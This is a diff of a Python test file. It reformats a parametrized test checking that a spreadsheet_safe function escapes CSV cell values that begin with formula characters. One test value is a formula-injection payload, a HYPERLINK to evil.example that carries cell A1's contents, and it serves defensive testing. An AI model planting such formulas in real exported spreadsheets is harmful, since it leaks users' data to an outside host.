@@ -32,9 +32,15 @@ def test_sync_progress_ignores_ids_that_are_not_numbers(finance_client):
     assert finance_client.get(reverse("sync:progress"), {"ids": "²,1,\x00"}).status_code == 200
 
 
-@pytest.mark.parametrize("value,written", [
-    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
-    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("@SUM(A1)", "'@SUM(A1)"), ("Lumen Lighting", "Lumen Lighting"),
-])
+@pytest.mark.parametrize(
+    "value,written",
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+        ("=1+1", "'=1+1"),
+        ("+44 20", "'+44 20"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Lumen Lighting", "Lumen Lighting"),
+    ],
+)
 def test_payout_csv_cells_are_never_formulas(value, written):
     assert spreadsheet_safe(value) == written
